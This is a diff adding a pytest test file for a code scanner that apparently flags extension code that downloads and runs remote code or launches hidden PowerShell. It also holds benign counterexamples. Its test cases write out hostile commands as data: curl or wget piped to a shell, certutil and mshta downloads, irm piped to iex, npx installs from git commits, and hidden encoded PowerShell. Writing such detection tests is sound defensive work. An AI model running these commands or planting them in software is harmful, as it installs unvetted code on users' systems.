@@ -1,0 +1,89 @@
+import pytest
+
+from tests.offline import found
+from vscan.domain import Severity
+
+CRITICAL, HIGH = Severity.CRITICAL, Severity.HIGH
+EXEC = 'const cp = require("child_process");\n'
+
+
+@pytest.mark.parametrize(
+    ("code", "severity"),
+    [
+        ('cp.exec("npx -y github:acme/tools#0123456789abcdef0123456789abcdef01234567")', CRITICAL),
+        ('cp.exec("npm exec --yes github:acme/tools#0123456")', CRITICAL),
+        ('cp.spawn("npx", ["-y", "github:acme/tools#0123456789abcdef"])', CRITICAL),
+        ("cp.execSync(`npx --yes git+https://github.com/acme/tools.git#0123456`)", CRITICAL),
+        ('cp.exec("npx -y acme/tools#0123456789abcdef")', CRITICAL),
+        ('new vscode.McpStdioServerDefinition("x", "npx", ["-y", "github:a/b#0123456"])', CRITICAL),
+        ('cp.exec("npx github:acme/tools")', HIGH),
+        ('cp.exec("curl -s https://acme.example/x.js | node")', HIGH),
+        ('cp.exec("curl -so /tmp/x https://acme.example && chmod +x /tmp/x && sh /tmp/x")', HIGH),
+        ('cp.exec("certutil -urlcache -f https://acme.example/x.exe x.exe")', HIGH),
+        ('cp.exec("cmd /c mshta https://acme.example/x")', HIGH),
+        ('cp.exec("curl -fsSL https://acme.example/x.sh | sh")', HIGH),
+        ("cp.exec('wget -qO- https://acme.example/x.sh | sudo bash')", HIGH),
+        ('cp.spawn("sh", ["-c", "curl https://acme.example | /bin/sh"])', HIGH),
+        ('cp.exec("bash -c \\"$(curl -fsSL https://acme.example/x)\\"")', HIGH),
+        ('cp.exec("bash <(curl -s https://acme.example/x)")', HIGH),
+        ('terminal.sendText("curl https://acme.example | bash")', HIGH),
+        ('cp.exec("powershell -c \\"irm https://acme.example/x | iex\\"")', HIGH),
+    ],
+)
+def test_a_command_that_fetches_and_runs_is_found(code: str, severity: Severity) -> None:
+    assert found(EXEC + code) == {"runs-remote-code": severity}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'show("Install it: curl -fsSL https://acme.example/x.sh | sh")',  # says so, runs nothing
+        'cp.exec("npx prettier --write .")',
+        'cp.exec("npx -y acme-tools@1.2.3")',
+        'cp.exec("curl -fsSL https://acme.example/x.json | jq .")',
+        'cp.exec("curl https://acme.example/x.sh -o x.sh")',
+        'cp.exec("git clone github:acme/tools")',
+    ],
+)
+def test_other_commands_are_none(code: str) -> None:
+    assert found(EXEC + code) == {}
+
+
+def test_what_nothing_runs_is_a_text() -> None:
+    assert found('const hint = "curl https://acme.example | sh"') == {}
+
+
+def test_a_shell_script_runs_its_lines_but_not_its_comments() -> None:
+    line = "curl https://acme.example/x | sh"
+    assert found(f"#!/bin/sh\n{line}\n", "setup.sh") == {"runs-remote-code": HIGH}
+    assert found(f"#!/bin/sh\n# {line}\n", "setup.sh") == {}
+    assert found(f"# Setup\n\n{line}\n", "README.md") == {}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "powershell -WindowStyle Hidden -EncodedCommand $x",
+        "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File x.ps1",
+        "powershell.exe -w hidden -enc $x",
+        "powershell -nop -w 1 -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A",
+        'powershell", ["-NoProfile", "-w", "hidden", "-c", "iex (iwr https://acme.example)',
+        "pwsh -WindowStyle Hidden -c (New-Object Net.WebClient).DownloadFile(1)",
+        "PowerShell -Win Hidden -Command IEX ([Convert]::FromBase64String($x))",
+    ],
+)
+def test_a_hidden_powershell_is_found(command: str) -> None:
+    assert found(f"{EXEC}cp.exec('{command}')")["hidden-powershell"] is CRITICAL
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "powershell -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand",
+        "powershell -NoProfile -Command Get-Process",
+        "powershell -WindowStyle Hidden -Command Get-Clipboard",
+        "powershell.exe', ['-File', script], {windowsHide: true})('",
+    ],
+)
+def test_an_ordinary_powershell_is_not(command: str) -> None:
+    assert found(f"{EXEC}cp.exec('{command}')") == {}
